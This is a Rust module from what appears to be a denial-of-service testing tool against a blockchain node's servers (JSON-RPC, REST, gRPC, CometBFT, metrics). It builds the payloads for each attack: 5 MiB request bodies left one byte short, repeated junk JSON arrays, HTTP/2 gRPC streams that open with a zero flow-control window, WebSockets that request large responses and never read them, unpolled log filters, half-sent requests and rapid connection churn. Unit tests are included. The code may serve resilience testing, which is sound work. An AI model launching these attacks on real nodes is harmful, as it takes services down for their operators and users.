//! The kinds of attack: what each connection sends, to which server, and whether it reads.

use crate::{http::Url, reads::body, ws};
use anyhow::{Context, bail};
use serde_json::json;
use std::{fmt, net::SocketAddr, sync::Arc};

/// Bytes of a large body: the node's default maximum size of a request.
const LARGE_BODY: usize = 5 * 1024 * 1024;
/// gRPC requests per connection: more than servers allow concurrently.
const STREAMS: u32 = 200;
/// Requests per slow WebSocket.
const UNREAD_CALLS: usize = 400;
/// Addresses in a log filter.
const FILTER_ADDRESSES: usize = 500;

/// Kind of attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum)]
pub(super) enum Kind {
    /// Bodies of 5 MiB that lack their last byte
    Bodies,
    /// Bodies of 5 MiB that hold [1,1,1,...]
    Garbage,
    /// gRPC requests whose client never opens the flow-control window
    GrpcWindow,
    /// WebSockets that request large responses and do not read them
    SlowWebsockets,
    /// Filters that are installed and never polled
    Filters,
    /// Connections to all servers that send half a request
    Connections,
    /// Connections to all servers, opened and closed as fast as possible
    Descriptors,
    /// All of these at once
    All,
}

impl fmt::Display for Kind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let value = clap::ValueEnum::to_possible_value(self).expect("no kind is hidden");
        f.write_str(value.get_name())
    }
}

/// The kinds that are combined in [`Kind::All`].
const EACH: [Kind; 7] = [
    Kind::Bodies,
    Kind::Garbage,
    Kind::GrpcWindow,
    Kind::SlowWebsockets,
    Kind::Filters,
    Kind::Connections,
    Kind::Descriptors,
];

/// Listening addresses of the node's servers.
#[derive(Clone, Debug)]
pub(super) struct Targets {
    json_rpc: Url,
    others: Vec<SocketAddr>,
    grpc: Option<SocketAddr>,
    pub(super) metrics: Option<SocketAddr>,
}

/// Names and default ports of the other servers; those with port 0 are off by default.
const PORTS: [(&str, u16); 6] = [
    ("ws", 0),
    ("rest", 1317),
    ("grpc", 9090),
    ("comet", 26657),
    ("ingest", 0),
    ("metrics", 26660),
];

impl Targets {
    /// Creates the targets: the servers of the node at `json_rpc`, some of whose ports are given as `NAME=PORT`.
    pub(super) fn new(json_rpc: &Url, given: &[String]) -> anyhow::Result<Self> {
        let mut ports = PORTS;
        for text in given {
            let (name, port) = text.split_once('=').unwrap_or((text, ""));
            let Some((_, known)) = ports.iter_mut().find(|(known, _)| *known == name) else {
                bail!("--ports {text}: NAME must be ws, rest, grpc, comet, ingest or metrics");
            };
            *known = port.parse().with_context(|| {
                format!("--ports {text}: PORT must be a number from 0 to 65535")
            })?;
        }
        let at = |port: u16| (port > 0).then(|| SocketAddr::new(json_rpc.address.ip(), port));
        let named =
            |name| ports.iter().find(|(known, _)| *known == name).and_then(|(_, port)| at(*port));
        let others = ports.iter().filter_map(|(_, port)| at(*port)).collect();
        let json_rpc = json_rpc.clone();
        Ok(Self { json_rpc, others, grpc: named("grpc"), metrics: named("metrics") })
    }

    /// Returns the server that the connection with this number attacks.
    fn target(&self, number: usize) -> SocketAddr {
        let all = self.others.len() + 1;
        match number % all {
            0 => self.json_rpc.address,
            other => self.others[other - 1],
        }
    }
}

/// Behaviour of one attacking connection.
#[derive(Clone, Debug)]
pub(super) struct Script {
    pub(super) target: SocketAddr,
    pub(super) request: Arc<[u8]>,
    /// Whether the request is sent again after each response.
    pub(super) repeats: bool,
    /// Whether responses are read.
    pub(super) reads: bool,
    /// Whether the connection is closed and reopened after the request has been sent.
    pub(super) reconnects: bool,
}

impl Kind {
    /// Creates the script of each connection.
    pub(super) fn scripts(self, targets: &Targets, clients: usize) -> Vec<Script> {
        if self == Self::All {
            let share = clients.div_ceil(EACH.len());
            return EACH.iter().flat_map(|kind| kind.scripts(targets, share)).collect();
        }
        let url = &targets.json_rpc;
        let post = |body: &[u8], sent: usize| {
            let mut request = url.post_head();
            request.extend_from_slice(format!("{}\r\n\r\n", body.len()).as_bytes());
            request.extend_from_slice(&body[..sent]);
            Arc::<[u8]>::from(request)
        };
        let script = |target, request| Script {
            target,
            request,
            repeats: false,
            reads: true,
            reconnects: false,
        };
        let numbers = 0..clients;
        match self {
            Self::Bodies => {
                let body = vec![b' '; LARGE_BODY];
                vec![script(url.address, post(&body, body.len() - 1)); clients]
            }
            Self::Garbage => {
                let body = garbage();
                let script = script(url.address, post(&body, body.len()));
                vec![Script { repeats: true, ..script }; clients]
            }
            Self::GrpcWindow => {
                let Some(target) = targets.grpc else { return Vec::new() };
                vec![script(target, grpc_requests().into()); clients]
            }
            Self::SlowWebsockets => {
                let script = script(url.address, websocket_calls(url).into());
                vec![Script { reads: false, ..script }; clients]
            }
            Self::Filters => {
                let addresses: Vec<_> =
                    (0..FILTER_ADDRESSES).map(|number| format!("0x{number:040x}")).collect();
                let call = body("eth_newFilter", &json!([{ "address": addresses }]));
                let script = script(url.address, post(&call, call.len()));
                vec![Script { repeats: true, ..script }; clients]
            }
            Self::Connections => {
                numbers.map(|number| script(targets.target(number), half_request())).collect()
            }
            Self::Descriptors => numbers
                .map(|number| Script {
                    reconnects: true,
                    ..script(targets.target(number), half_request())
                })
                .collect(),
            Self::All => unreachable!("handled above"),
        }
    }
}

fn half_request() -> Arc<[u8]> {
    Arc::from(&b"GET / HTTP/1.1\r\nHost: localhost\r\n"[..])
}

/// Creates an array of as many numbers as fit into a large body.
fn garbage() -> Vec<u8> {
    let mut body = Vec::with_capacity(LARGE_BODY);
    body.push(b'[');
    while body.len() + 3 < LARGE_BODY {
        body.extend_from_slice(b"1,");
    }
    body.extend_from_slice(b"1]");
    body
}

/// Creates a WebSocket handshake followed by many calls with large responses.
fn websocket_calls(url: &Url) -> Vec<u8> {
    let mut out = ws::handshake_request(url);
    let percentiles: Vec<u32> = (1..=100).collect();
    let calls = [
        body("eth_feeHistory", &json!(["0x400", "latest", percentiles])),
        body("eth_getBlockByNumber", &json!(["latest", true])),
    ];
    for call in calls.iter().cycle().take(UNREAD_CALLS) {
        ws::append_text(&mut out, call);
    }
    out
}

/// Creates HTTP/2 requests for the latest block, with an initial flow-control window of 0 bytes.
fn grpc_requests() -> Vec<u8> {
    const SETTINGS: u8 = 4;
    const HEADERS: u8 = 1;
    const DATA: u8 = 0;
    const END_HEADERS: u8 = 4;
    const END_STREAM: u8 = 1;
    let frame = |kind: u8, flags: u8, stream: u32, payload: &[u8]| {
        let length = u32::try_from(payload.len()).expect("payloads are short");
        let mut bytes = length.to_be_bytes()[1..].to_vec();
        bytes.extend_from_slice(&[kind, flags]);
        bytes.extend_from_slice(&stream.to_be_bytes());
        bytes.extend_from_slice(payload);
        bytes
    };
    // Header fields without indexing (RFC 7541, section 6.2.2).
    let field = |name: &str, value: &str| {
        let mut bytes = vec![0];
        for text in [name, value] {
            bytes.push(u8::try_from(text.len()).expect("texts are shorter than 127 bytes"));
            bytes.extend_from_slice(text.as_bytes());
        }
        bytes
    };
    let headers = [
        field(":method", "POST"),
        field(":scheme", "http"),
        field(":path", "/cosmos.base.tendermint.v1beta1.Service/GetLatestBlock"),
        field(":authority", "localhost"),
        field("content-type", "application/grpc"),
        field("te", "trailers"),
    ]
    .concat();
    let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    // SETTINGS_INITIAL_WINDOW_SIZE is 0.
    out.extend(frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]));
    for number in 0..STREAMS {
        let stream = 2 * number + 1;
        out.extend(frame(HEADERS, END_HEADERS, stream, &headers));
        // An empty message.
        out.extend(frame(DATA, END_STREAM, stream, &[0; 5]));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn targets() -> Targets {
        Targets::new(&Url::parse("http://127.0.0.1:8545").unwrap(), &["ingest=8547".to_owned()])
            .unwrap()
    }

    #[test]
    fn unfinished_body_lacks_one_byte_and_garbage_is_complete() {
        for (kind, missing) in [(Kind::Bodies, 1), (Kind::Garbage, 0)] {
            let scripts = kind.scripts(&targets(), 2);
            let request = &scripts[1].request;
            let text = String::from_utf8_lossy(&request[..300]);
            let length = text.split("Content-Length: ").nth(1).unwrap();
            let (length, _) = length.split_once("\r\n\r\n").unwrap();
            let head = text.find("\r\n\r\n").unwrap() + 4;
            assert_eq!(head + length.parse::<usize>().unwrap(), request.len() + missing, "{kind}");
        }
        let garbage: Vec<u8> = serde_json::from_slice(&garbage()).unwrap();
        assert!(garbage.iter().all(|number| *number == 1));
    }

    #[test]
    fn all_servers_are_attacked() {
        let targets = targets();
        let scripts = Kind::Connections.scripts(&targets, 12);
        let mut ports: Vec<_> = scripts.iter().map(|script| script.target.port()).collect();
        ports.sort_unstable();
        ports.dedup();
        assert_eq!(
            ports,
            [1317, 8545, 8547, 9090, 26657, 26660],
            "those that are on by default, and the one that was given"
        );
        assert!(Kind::All.scripts(&targets, 70).len() >= 70);
        for text in ["rest", "rest=x", "none=1"] {
            assert!(Targets::new(&targets.json_rpc, &[text.to_owned()]).is_err(), "{text}");
        }
    }
}
